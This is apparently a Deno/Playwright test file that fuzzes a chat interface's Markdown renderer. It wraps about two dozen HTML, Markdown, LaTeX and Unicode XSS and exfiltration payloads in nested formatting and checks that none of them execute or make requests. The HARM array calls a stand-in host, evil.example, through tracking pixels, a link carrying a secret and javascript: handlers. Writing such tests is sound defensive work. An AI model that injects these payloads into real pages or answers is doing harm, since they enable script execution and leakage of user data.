/// <reference lib="dom" />
/**
 * Hostile answers by generation: pieces that do harm elsewhere, nested in each other and in Markdown, with what hides them. The oracle
 * is the browser: no request leaves, no script runs, the policy refuses nothing since nothing was tried, and what is drawn has only the
 * elements and attributes of this page's own.
 */
import assert from "node:assert/strict";
import { seeded, seeds } from "../support/seeds.ts";
import { startServe } from "../support/serve.ts";
import { hasChromium, isFull, visit } from "./browser.ts";
import { fakeReplies, show } from "./fake_replies.ts";

const COUNT = 300;

const HARM = [
  `<img src="http://evil.example/x" onerror=hit=1>`,
  `<script>hit=1</script>`,
  `<svg/onload=hit=1>`,
  `<style>*{background:url(http://evil.example/css)}</style>`,
  `<iframe srcdoc="<script>parent.hit=1</script>">`,
  `<a href="javascript:hit=1" ping="http://evil.example/ping">x</a>`,
  `<link rel=preload href=http://evil.example/p>`,
  `<form action=javascript:hit=1><input type=image src=http://evil.example/i>`,
  `<template><script>hit=1</script></template>`,
  `<math><mi xlink:href="javascript:hit=1">x</mi></math>`,
  `![p](http://evil.example/pixel)`,
  `[l](javascript:hit=1)`,
  `[l](http://evil.example/?q=secret "title")`,
  `[l](<http://evil.example/ onmouseover=hit=1>)`,
  `![p][r]\n\n[r]: http://evil.example/ref`,
  `<http://evil.example/auto>`,
  "$\\href{javascript:hit=1}{x}$",
  "$\\includegraphics{http://evil.example/m.png}$",
  "\\(\\htmlData{onload=hit=1}{x}\\)",
  "\\def\\a{\\a\\a}$\\a$",
  "&lt;script&gt;hit=1&lt;/script&gt;",
  "&#106;avascript&colon;hit=1",
  "\u202egnirts\u202c",
  "\u001b]8;;http://evil.example/\u0007link\u001b]8;;\u0007",
  "\u{e0041}\u{e0100}\u3164",
  `{{constructor.constructor('hit=1')()}}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='hit=1'>`,
];

const WRAPS: readonly ((inside: string) => string)[] = [
  (inside) => `**${inside}**`,
  (inside) => `*${inside}*`,
  (inside) => `~~${inside}~~`,
  (inside) => `> ${inside}`,
  (inside) => `- [x] ${inside}`,
  (inside) => `1. ${inside}`,
  (inside) => `# ${inside}`,
  (inside) => `[${inside}](http://a.example/)`,
  (inside) => `![${inside}](${inside})`,
  (inside) => `[x](${inside})`,
  (inside) => `| ${inside} | b |\n|---|:-:|\n| ${inside} | c |`,
  (inside) => "`" + inside + "`",
  (inside) => "```" + inside + "\n" + inside + "\n```",
  (inside) => "```html\n" + inside,
  (inside) => `$${inside}$`,
  (inside) => `$$${inside}$$`,
  (inside) => `<div title="${inside}">${inside}</div>`,
  (inside) => `<!-- ${inside}`,
  (inside) => `\\${inside}`,
  (inside) => inside.toUpperCase(),
  (inside) => inside.replaceAll("<", "\u0000<"),
  (inside) => inside.replaceAll(" ", "\n"),
  (inside) => `    ${inside}`,
  (inside) => `${inside}\n===\n`,
];

function answerOf(seed: number): string {
  const random = seeded(seed);
  const pick = <T>(list: readonly T[]) => list[Math.floor(random() * list.length)]!;
  const part = (): string => {
    let text = pick(HARM);
    for (let deep = Math.floor(random() * 4); deep > 0; deep--) text = pick(WRAPS)(text);
    return random() < 0.2 ? text.slice(0, Math.floor(random() * text.length)) : text;
  };
  return Array.from({ length: 1 + Math.floor(random() * 4) }, part)
    .join(pick(["\n\n", "\n", " ", ""]));
}

/** What no element of an answer is, and no attribute of one. */
const FOREIGN = `(() => {
  const tags = /^(?:script|img|svg|iframe|object|embed|form|style|link|meta|base|video|audio|a|area|template|frame|applet|textarea|select)$/i;
  const names = /^(?:on.*|href|src|srcset|srcdoc|action|formaction|xlink:href|ping|style|id|name|data|background|poster)$/i;
  const bad = [];
  for (const one of document.querySelectorAll(".message .markdown *, .message .thinking *")) {
    if (tags.test(one.tagName)) bad.push(one.outerHTML.slice(0, 200));
    for (const { name, value } of one.attributes) {
      if (names.test(name)) bad.push(one.tagName + " " + name + "=" + value.slice(0, 100));
    }
  }
  return bad;
})()`;

Deno.test({
  name:
    `hostile: ${COUNT} generated answers ask for nothing, run nothing, and draw what is the page's own`,
  ignore: !hasChromium() || !isFull("generated hostile answers in a browser"),
  async fn() {
    const served = await startServe();
    let content = "";
    try {
      await visit(served.proxyUrl, async ({ page, context, asked, said }) => {
        await page.locator("#model option").first().waitFor({ state: "attached" });
        // The oracle sees harm: a page that makes HTML of the pieces runs some of them, asks, and has foreign elements.
        const victim = await context.newPage();
        const text = JSON.stringify(`<div class="message"><p class="markdown">${HARM.join("")}`);
        await victim.evaluate(`document.open(); document.write(${text}); document.close()`)
          .catch(() => {});
        await victim.waitForFunction("globalThis.hit === 1");
        assert.ok((await victim.evaluate(FOREIGN) as string[]).length > 0);
        assert.ok(asked.some((url) => url.includes("evil.example")));
        await victim.close();

        const from = asked.length;
        said.length = 0;
        let n = 0;
        for (const seed of seeds(COUNT)) {
          content = answerOf(seed);
          if (n === 20) {
            await page.getByRole("button", { name: "New", exact: true }).click();
            n = 0;
          }
          await show(page, n++);
          const told = `seed ${seed}: ${JSON.stringify(content)}`;
          assert.deepEqual(await page.evaluate(FOREIGN), [], told);
          assert.equal(await page.evaluate("globalThis.hit"), undefined, told);
          const elsewhere = asked.slice(from).filter((url) => !url.startsWith(served.proxyUrl));
          assert.deepEqual(elsewhere, [], told);
          const refused = said.filter((line) => !/status of (403|503)/.test(line));
          assert.deepEqual(refused, [], told);
          const shown = await page.locator(".message.assistant").last().innerText();
          assert.ok(
            !/(?![\t\n\r])\p{Cc}|[\u202a-\u202e\u3164]|[\u{e0000}-\u{e0fff}]/u.test(shown),
            told,
          );
        }
      }, { before: (context) => fakeReplies(context, () => content) });
    } finally {
      await served.stop();
    }
  },
});
